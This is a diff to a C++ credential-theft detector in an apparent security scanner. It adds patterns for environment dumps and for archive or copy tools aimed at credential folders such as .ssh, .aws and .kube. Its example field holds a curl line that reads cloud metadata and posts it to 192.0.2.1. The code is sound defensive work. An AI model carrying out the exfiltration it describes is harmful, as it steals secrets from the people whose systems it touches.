@@ -54,6 +54,9 @@ constexpr auto k_cloud_role = hide("iam/security-credentials");
 // All that a program was given in its environment.
 constexpr auto k_all_of_node = hide("stringify(process.env)");
 constexpr auto k_all_of_python = hide("dict(os.environ)");
+// The same as one value among others.
+constexpr auto k_all_and_more = hide("process.env,");
+constexpr auto k_more_and_all = hide("process.env}");
 constexpr auto k_cloud_token = hide("service-accounts/default/token");
 
 const std::vector<std::string>& places() {
@@ -265,6 +268,39 @@ bool posts_to_fixed_host(std::string_view text) {
   return false;
 }
 
+// Within JSON.stringify({… process.env …}): of the last call of it before `at` no bracket is closed.
+bool is_made_text(std::string_view text, std::size_t at) {
+  constexpr std::size_t k_most = 600;
+  constexpr std::string_view k_call = "stringify(";
+  const std::size_t from = at - std::min(at, k_most);
+  const std::string_view before = text.substr(from, at - from);
+  const std::size_t call = before.rfind(k_call);
+  if (call == std::string_view::npos) return false;
+  int open = 1;
+  for (const char c : before.substr(call + k_call.size())) {
+    open += c == '(' ? 1 : c == ')' ? -1 : 0;
+    if (open == 0 || c == ';') return false;
+  }
+  return true;
+}
+
+// Folders in which programs keep what opens other things, given whole to something that packs or copies.
+void folders_taken(const ShellCommand& command, std::set<std::string>& found) {
+  static constexpr std::array<std::string_view, 9> k_packers = {"tar",   "bsdtar", "zip",  "7z",    "cp",
+                                                                "rsync", "scp",    "cpio", "rclone"};
+  static constexpr std::array<std::string_view, 9> k_folders = {
+      ".ssh", ".aws", ".kube", ".docker", ".gnupg", ".azure", ".config/gcloud", ".electrum", ".vault"};
+  const std::string_view name = program(command);
+  if (std::find(k_packers.begin(), k_packers.end(), name) == k_packers.end()) return;
+  for (std::size_t i = 1; i < command.argv.size(); ++i) {
+    std::string_view word = command.argv[i];
+    while (word.ends_with('/') || word.ends_with('*')) word.remove_suffix(1);
+    for (const std::string_view folder : k_folders)
+      if (word.ends_with(folder) && (word.size() == folder.size() || word[word.size() - folder.size() - 1] == '/'))
+        found.insert(std::string(folder));
+  }
+}
+
 // In the code of other languages.
 bool sends_somewhere(std::string_view text) {
   static const std::vector<std::string> words = {
@@ -284,9 +320,10 @@ std::string listed(const std::set<std::string>& found) {
 class CredentialTheft final : public Detector {
  public:
   std::vector<Literal> literals() const override {
-    return {{k_rare_first.reveal(), false},    {k_rare_second.reveal(), false},  {k_rare_third.reveal(), false},
-            {k_cluster_token.reveal(), false}, {k_cloud_role.reveal(), false},   {k_cloud_token.reveal(), false},
-            {k_all_of_node.reveal(), false},   {k_all_of_python.reveal(), false}};
+    return {{k_rare_first.reveal(), false},    {k_rare_second.reveal(), false},   {k_rare_third.reveal(), false},
+            {k_cluster_token.reveal(), false}, {k_cloud_role.reveal(), false},    {k_cloud_token.reveal(), false},
+            {k_all_of_node.reveal(), false},   {k_all_of_python.reveal(), false}, {k_all_and_more.reveal(), false},
+            {k_more_and_all.reveal(), false}};
   }
 
   void confirm(const Hit& hit, EvidenceSink& out) const override {
@@ -297,6 +334,7 @@ class CredentialTheft final : public Detector {
     if (name.ends_with(".sh") || name.ends_with(".md") || as_text(hit.file.head).starts_with("#!/bin/"))
       return;  // see shell()
     const std::string_view window = as_text(hit.window);
+    if (hit.literal > 7 && !is_made_text(window, hit.position)) return;
     if (hit.literal > 2) return confirm_token(hit, window, out);
     const std::size_t from = hit.position - std::min(hit.position, k_around);
     const std::string_view near = window.substr(from, 2 * k_around);
@@ -322,6 +360,9 @@ class CredentialTheft final : public Detector {
         out.add(shell_evidence(k_rows[1], unit, command.line, "sends its environment: " + words(command),
                                class_for(unit, k_classes)));
       places_sought(command, found);
+      const bool none = found.empty();
+      folders_taken(command, found);
+      if (none && !found.empty()) line = command.line;
       if (how > sent) {
         sent = how;
         sender = &command;
@@ -367,7 +408,7 @@ class CredentialTheft final : public Detector {
 
 const util::Registered<CredentialTheft> registered{{
     .id = "credential-theft",
-    .version = 4,
+    .version = 5,
     .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
     .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
     .rules = k_rows,
